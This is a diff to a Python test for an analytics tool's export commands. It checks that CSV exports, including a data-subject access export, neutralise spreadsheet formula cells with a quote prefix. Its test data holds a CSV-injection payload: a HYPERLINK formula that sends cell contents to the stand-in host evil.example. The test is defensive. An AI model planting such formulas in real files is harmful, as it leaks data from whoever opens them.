@@ -11,29 +11,16 @@ from __future__ import annotations
 
 import csv
 import json
-import subprocess
 from collections.abc import Callable
 from pathlib import Path
 
 from collector.config import Config
-from tests.privacy.support import SITE, events, send, write_data_dir
-from tests.support import ROOT, Clock, LiveServer, mesure_command
+from tests.privacy.support import SITE, events, run_mesure, send, write_data_dir
+from tests.support import Clock, LiveServer
 
 USER_ID = "csv-person-81"
 FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(1)", "'=1"]
 Live = Callable[[Config, Clock], LiveServer]
-
-
-def _mesure(data: Path, *args: str) -> str:
-    done = subprocess.run(
-        mesure_command(*args, "--data", str(data)),
-        cwd=ROOT,
-        capture_output=True,
-        text=True,
-        timeout=120,
-    )
-    assert done.returncode == 0, (done.stdout, done.stderr)
-    return done.stdout
 
 
 def _cells(folder: Path) -> list[str]:
@@ -70,10 +57,10 @@ def test_csv_exports_defuse_formula_cells_and_say_so(
     assert set(FORMULAS) <= stored  # stored as sent: only the CSV writer changes them
     day = clock().date().isoformat()
     out = config.data_dir / "exports" / "csv"
-    _mesure(config.data_dir, "export", "--from", day, "--to", day, "--format", "csv",
+    run_mesure(config.data_dir, "export", "--from", day, "--to", day, "--format", "csv",
             "--out", str(out))  # fmt: skip
     access = config.data_dir / "exports" / "access"
-    _mesure(config.data_dir, "dsar", "access", "--site", SITE, "--user-id", USER_ID,
+    run_mesure(config.data_dir, "dsar", "access", "--site", SITE, "--user-id", USER_ID,
             "--format", "csv", "--out", str(access))  # fmt: skip
     for folder in (out, access):
         cells = _cells(folder)
@@ -84,8 +71,8 @@ def test_csv_exports_defuse_formula_cells_and_say_so(
         rule = json.loads((folder / "manifest.json").read_bytes())["csv_formula_cells"]
         assert rule["prefix"] == "'"
         assert set(rule["starting_with"]) >= {"=", "+", "-", "@", "\t", "\r", "'"}
-        assert "export verified" in _mesure(config.data_dir, "export", "verify", str(folder))
+        assert "export verified" in run_mesure(config.data_dir, "export", "verify", str(folder))
     # The other formats hold the values as stored and say nothing of CSV.
     ndjson = config.data_dir / "exports" / "ndjson"
-    _mesure(config.data_dir, "export", "--from", day, "--to", day, "--out", str(ndjson))
+    run_mesure(config.data_dir, "export", "--from", day, "--to", day, "--out", str(ndjson))
     assert json.loads((ndjson / "manifest.json").read_bytes())["csv_formula_cells"] is None
